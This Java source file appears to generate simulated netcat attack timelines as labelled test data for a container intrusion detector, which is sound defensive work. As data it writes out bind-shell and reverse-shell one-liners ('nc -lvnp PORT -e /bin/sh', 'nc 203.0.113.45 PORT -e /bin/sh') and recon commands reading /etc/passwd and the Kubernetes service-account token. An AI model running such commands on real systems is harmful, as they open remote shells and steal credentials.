package io.ncwatch.generate;

import io.ncwatch.record.Stage;
import java.util.List;

/**
 * The netcat attack scenarios, each in one container with a realistic timeline: how the attacker gets a
 * shell to start netcat, what netcat does, and what follows.
 */
final class Attacks {
    /** Ports attackers like; no service of the fleet uses them. */
    private static final List<Integer> PORTS = List.of(4444, 4445, 1337, 31337, 9001, 5555, 6666, 7777, 12345, 1234, 9999, 2323);
    private static final List<String> PEERS = List.of("203.0.113.45", "203.0.113.77", "198.51.100.23", "198.51.100.190");
    private static final List<Command> RECON = List.of(
            Command.of("/usr/bin/id", "id"),
            Command.of("/bin/uname", "uname", "-a"),
            Command.of("/bin/cat", "cat", "/etc/passwd"),
            Command.of("/bin/ls", "ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"),
            Command.of("/bin/cat", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
            Command.of("/usr/bin/whoami", "whoami"));

    private Attacks() {}

    /** Event time a scenario needs after its start for the events the ground truth speaks of to happen. */
    static long neededMillis(Scenario scenario) {
        long core = 60_000;
        return switch (scenario) {
            case LATE -> core + FleetGenerator.LATENESS.toMillis();
            case TOKEN_API_SLOW -> 2 * core;
            default -> core;
        };
    }

    /** Plans {@code scenario} in {@code e} (an episode marked malicious, with or without network events). */
    static void plan(Scenario scenario, Episode e) {
        switch (scenario) {
            case BIND_SHELL, LISTENER_SHELL_NO_NETWORK -> bindShell(e, bindShellCommand(e), false);
            case BUSYBOX -> bindShell(e, busybox(e), false);
            case OUT_OF_ORDER -> {
                bindShell(e, bindShellCommand(e), true);
                for (PlannedEvent event : e.events()) {
                    event.deliveryDelay = e.random.nextLong(FleetGenerator.SHUFFLE_BOUND.toMillis() + 1);
                }
            }
            case LATE -> {
                ProcessEvent listener = bindShell(e, bindShellCommand(e), false);
                for (PlannedEvent event : e.events()) {
                    if (event.timestamp > listener.timestamp) {
                        event.late = true;
                        event.deliveryDelay = FleetGenerator.LATENESS.toMillis();
                    }
                }
            }
            case LISTENER_ONLY -> listenerOnly(e);
            case REVERSE_SHELL -> reverseShell(e);
            case WRAPPER -> wrapper(e);
        }
    }

    /** The variants of a bind shell: the listener's command and the shell it hands out. */
    private static Command[] bindShellCommand(Episode e) {
        int port = claimPort(e);
        String p = Integer.toString(port);
        return switch (e.random.nextInt(4)) {
            case 0 -> new Command[] {Command.listener(port, "/usr/bin/nc", "nc", "-lvnp", p, "-e", "/bin/sh"),
                    Command.of("/bin/sh", "/bin/sh")};
            case 1 -> new Command[] {Command.listener(port, "/usr/bin/ncat", "ncat", "--listen", p, "--sh-exec", "/bin/sh"),
                    Command.of("/bin/sh", "/bin/sh", "-c", "/bin/sh")};
            case 2 -> new Command[] {Command.listener(port, "/bin/netcat", "netcat", "-l", "-p", p, "-e", "/bin/bash"),
                    Command.of("/bin/bash", "/bin/bash")};
            default -> new Command[] {Command.listener(port, "/usr/bin/ncat", "ncat", "-lvp", p, "-e", "/bin/bash"),
                    Command.of("/bin/bash", "/bin/bash")};
        };
    }

    private static Command[] busybox(Episode e) {
        int port = claimPort(e);
        return new Command[] {
                Command.listener(port, "/bin/busybox", "busybox", "nc", "-lp", Integer.toString(port), "-e", "sh"),
                Command.of("/bin/sh", "sh")};
    }

    /**
     * Listener, then (unless the episode has no network events) the connection it accepts, then the shell
     * it hands out and what the attacker runs in it. Returns the listener's exec.
     */
    private static ProcessEvent bindShell(Episode e, Command[] listenerAndShell, boolean hurried) {
        Command listenerCommand = listenerAndShell[0];
        SimProcess launcher = launcher(e, listenerCommand);
        ProcessEvent listener = start(e, launcher, listenerCommand);
        if (hurried) {
            e.pause(300, 1_500);
        } else {
            e.pause(2_000, 40_000);
        }
        NetworkEvent connection = e.accepted(listener.process, e.pick(PEERS), listenerCommand.listenPort());
        if (connection != null) {
            connection.stage = Stage.CONNECTION;
            connection.listener = listener;
        }
        e.pause(20, 200);
        ProcessEvent shell = e.exec(listener.process, listenerAndShell[1]);
        shell.stage = Stage.SHELL;
        shell.listener = listener;
        int commands = 2 + e.random.nextInt(3);
        for (int i = 0; i < commands; i++) {
            e.pause(hurried ? 50 : 1_000, hurried ? 400 : 8_000);
            ProcessEvent run = e.exec(shell.process, e.pick(RECON));
            e.pause(2, 60);
            e.end(run.process, 0);
        }
        e.pause(hurried ? 100 : 5_000, hurried ? 800 : 60_000);
        e.disconnect(connection);
        e.end(shell.process, 0);
        e.end(listener.process, 0);
        e.end(launcher, 0);
        return listener;
    }

    private static void listenerOnly(Episode e) {
        int port = claimPort(e);
        String p = Integer.toString(port);
        Command command = switch (e.random.nextInt(3)) {
            case 0 -> Command.listener(port, "/usr/bin/nc", "nc", "-lvnp", p);
            case 1 -> Command.listener(port, "/usr/bin/nc", "nc", "-l", "-p", p);
            default -> Command.listener(port, "/usr/bin/ncat", "ncat", "-l", p, "--keep-open");
        };
        SimProcess launcher = launcher(e, command);
        ProcessEvent listener = start(e, launcher, command);
        e.pause(30_000, 300_000);
        e.end(listener.process, 130);
        e.end(launcher, 0);
    }

    /** {@code nc HOST PORT -e /bin/sh}: connects out, so it is no listener and the seed rule ignores it. */
    private static void reverseShell(Episode e) {
        String peer = e.pick(PEERS);
        String port = Integer.toString(e.pick(PORTS));
        Command command = e.random.nextBoolean()
                ? Command.of("/usr/bin/nc", "nc", peer, port, "-e", "/bin/sh")
                : Command.of("/usr/bin/ncat", "ncat", peer, port, "-e", "/bin/bash");
        SimProcess launcher = launcher(e, command);
        ProcessEvent nc = start(e, launcher, command);
        NetworkEvent connection = e.attempted(nc.process, peer, Integer.parseInt(port));
        e.pause(50, 300);
        ProcessEvent shell = e.exec(nc.process, Command.of("/bin/sh", "/bin/sh"));
        for (int i = 0; i < 2; i++) {
            e.pause(1_000, 8_000);
            ProcessEvent run = e.exec(shell.process, e.pick(RECON));
            e.pause(2, 60);
            e.end(run.process, 0);
        }
        e.pause(5_000, 60_000);
        e.disconnect(connection);
        e.end(shell.process, 0);
        e.end(nc.process, 0);
        e.end(launcher, 0);
    }

    /** {@code timeout 60 nc -l -p PORT}: the wrapper matches through its arguments, then its nc child does. */
    private static void wrapper(Episode e) {
        int port = claimPort(e);
        String p = Integer.toString(port);
        Command timeout = Command.listener(port, "/usr/bin/timeout", "timeout", "60", "nc", "-l", "-p", p);
        SimProcess launcher = launcher(e, timeout);
        ProcessEvent wrapper = start(e, launcher, timeout);
        e.pause(1, 3);
        ProcessEvent nc = e.exec(wrapper.process, Command.listener(port, "/usr/bin/nc", "nc", "-l", "-p", p));
        e.pause(60_000, 60_010);
        e.end(nc.process, 143);
        e.end(wrapper.process, 124);
        e.end(launcher, 0);
    }

    /**
     * How the attacker runs a command: through the application (remote code execution: the main process
     * spawns {@code sh -c}), or in a {@code kubectl exec} shell.
     */
    private static SimProcess launcher(Episode e, Command command) {
        FleetContainer c = e.container;
        boolean viaApp = c.app.kind() == App.Kind.WEB && e.random.nextBoolean();
        if (viaApp) {
            return e.exec(c.main, Command.of("/bin/sh", "sh", "-c", "cd /tmp && " + command.commandLine())).process;
        }
        return e.execEntered(Command.of("/bin/bash", "bash"), true, 0, c.app.workingDirectory()).process;
    }

    private static ProcessEvent start(Episode e, SimProcess launcher, Command command) {
        e.pause(2, launcher.interactive ? 15_000 : 5);
        return launcher.interactive ? e.execJob(launcher, command) : e.exec(launcher, command);
    }

    private static int claimPort(Episode e) {
        for (int tries = 0; tries < PORTS.size() * 2; tries++) {
            int port = e.pick(PORTS);
            if (e.container.claimListenerPort(port)) {
                return port;
            }
        }
        int port;
        do {
            port = 20_000 + e.random.nextInt(10_000);
        } while (!e.container.claimListenerPort(port));
        return port;
    }
}
